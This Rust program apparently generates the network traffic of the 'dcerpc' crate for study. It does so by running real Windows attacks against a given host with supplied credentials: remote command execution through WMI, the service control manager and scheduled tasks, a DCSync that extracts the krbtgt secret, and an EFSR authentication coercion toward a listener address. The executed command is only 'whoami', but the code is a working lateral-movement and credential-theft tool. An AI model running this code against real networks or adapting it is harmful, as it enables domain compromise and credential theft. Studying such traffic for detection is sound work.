//! `dcerpc-client METHOD HOST DOMAIN USER PASSWORD`: what the `dcerpc` crate sends, which is like no other client.
//!
//! Its NTLM does without key exchange, and it binds and calls in an order of its own.

#[allow(deprecated, reason = "the crate that takes its place sends the same")]
use dcerpc::drsuapi;
use dcerpc::{dcom_wmi, efsr, svcctl, tsch};
use smb2_client::SmbClient;
use std::error::Error;

const COMMAND: &str = "cmd.exe /c whoami";
const LISTENER: &str = "10.99.0.2";

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<(), Box<dyn Error>> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let [method, host, domain, user, password] = arguments.as_slice() else {
        return Err("usage: dcerpc-client METHOD HOST DOMAIN USER PASSWORD".into());
    };
    match method.as_str() {
        "wmi" => {
            println!("{}", dcom_wmi::wmi_exec(host, domain, user, password, None, "CLIENT", COMMAND).await?)
        }
        #[allow(deprecated, reason = "the crate that takes its place sends the same")]
        "dcsync" => {
            let mut session = drsuapi::DrsSession::bind(host, domain, user, password).await?;
            println!("{}", session.dcsync(domain, "krbtgt").await?.0);
        }
        "svcctl" => {
            let mut smb = session(host, domain, user, password).await?;
            println!("{:?}", svcctl::run(&mut smb, COMMAND).await?);
        }
        "tsch" => {
            let mut smb = session(host, domain, user, password).await?;
            println!("{:?}", tsch::atexec(&mut smb, COMMAND, domain, user, password, host).await?);
        }
        "efsr" => {
            let mut smb = session(host, domain, user, password).await?;
            let pipe = smb.open_pipe("lsarpc").await?;
            let mut client =
                efsr::CoerceClient::bind_sealed(&mut smb, pipe, domain, user, password, host).await?;
            println!("{:#x}", client.coerce(LISTENER).await?);
        }
        _ => return Err(format!("unknown method `{method}`").into()),
    }
    Ok(())
}

/// A session with the share of pipes.
async fn session(host: &str, domain: &str, user: &str, password: &str) -> Result<SmbClient, Box<dyn Error>> {
    let mut client = SmbClient::connect(&format!("{host}:445")).await?;
    client.login(host, domain, user, password).await?;
    client.tree_connect(&format!(r"\\{host}\IPC$")).await?;
    Ok(client)
}
